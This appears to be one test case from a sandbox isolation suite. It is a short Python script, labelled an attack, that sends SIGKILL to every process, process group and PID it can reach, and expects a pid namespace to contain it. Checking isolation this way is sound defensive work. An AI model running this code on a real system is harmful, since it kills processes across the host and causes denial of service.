# attack: sends SIGKILL to every process it may signal, and to every group and number
# family: processes
# expect: outcome OUTCOME_OK
# stops-it: pid namespace, the reaper is of another user
import os
import signal
import time

helper = os.fork()
if helper == 0:
    time.sleep(60)
    os._exit(0)
for target in [-1, -os.getpgid(0) if os.getpgid(0) != os.getpid() else -1] + [-group for group in range(2, 400)]:
    if target == -os.getpgrp():
        continue
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for pid in range(1, 5000):
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
_, status = os.waitpid(helper, 0)
assert os.WTERMSIG(status) == signal.SIGKILL
print("still here")
